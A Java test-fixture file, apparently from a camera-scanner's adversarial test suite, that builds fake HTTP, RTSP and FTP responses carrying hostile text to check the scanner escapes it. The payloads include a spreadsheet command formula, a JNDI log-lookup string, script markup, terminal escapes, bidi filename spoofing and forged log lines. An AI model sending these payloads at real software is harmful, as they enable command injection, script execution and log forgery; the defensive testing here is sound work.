package org.camsweep.adversary;

import static org.camsweep.adversary.HttpTricks.length;
import static org.camsweep.adversary.HttpTricks.web;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** Texts in HTTP, RTSP and greetings that try to be more than texts. */
final class HttpWords {
  private HttpWords() {}

  static List<Behaviour> all() {
    return List.of(
        words(
            "text-invalid-utf8", "bytes that are no UTF-8", "\u00c0\u00af\u00fe\u00ff\u00ed\u00a0"),
        words("text-nul", "NUL in every text", "cam\u0000era\u0000"),
        words(
            "text-binary", "control characters in every text", "\u0001\u0002\u0007\b\u000b\u007f"),
        words(
            "text-ansi",
            "terminal escapes in every text",
            "\u001b[2J\u001b]0;owned\u0007\u001b[31m"),
        Behaviour.of(
            "text-bidi",
            "bidirectional controls in the title",
            "no escape",
            web(Tcp.says(length("<title>cam\u202egnp.exe\u2066\u200b\ufeff</title>")))),
        words("text-formula", "a spreadsheet formula in every text", "=cmd|' /C calc'!A0"),
        words("text-markup", "markup and script in every text", "</td><script>alert(1)</script>"),
        words(
            "text-jndi",
            "look-up syntax of log libraries",
            "${jndi:ldap://" + Place.ELSEWHERE + "/a}%n%d{x}"),
        Behaviour.of(
            "text-title-1mb",
            "a title of 1 MB",
            "length of a fact",
            web(Tcp.says(length("<title>" + "t".repeat(1_000_000))))),
        Behaviour.of(
            "text-log-lines",
            "line breaks that forge log lines",
            "no escape",
            web(Tcp.says(length("<title>a\n2026-01-01 ERROR forged\r\nverdict: clear</title>")))));
  }

  /** The words in the server's name, the realm, the title and the stream's server. */
  private static Behaviour words(String name, String does, String words) {
    byte[] page =
        ("HTTP/1.1 401 No\r\nServer: "
                + words
                + "\r\nWWW-Authenticate: Digest realm=\""
                + words
                + "\", nonce=\"1\"\r\n\r\n<title>"
                + words
                + "</title>")
            .getBytes(StandardCharsets.ISO_8859_1);
    byte[] stream =
        ("RTSP/1.0 401 No\r\nCSeq: 1\r\nServer: "
                + words
                + "\r\nWWW-Authenticate: Basic realm=\""
                + words
                + "\"\r\n\r\n")
            .getBytes(StandardCharsets.ISO_8859_1);
    byte[] greeting = ("220 " + words + "\r\n").getBytes(StandardCharsets.ISO_8859_1);
    return Behaviour.of(
        name,
        does,
        "no escape",
        web(Tcp.says(page)),
        Tcp.at(554, Tcp.says(stream)),
        Tcp.at(21, socket -> socket.getOutputStream().write(greeting)));
  }
}
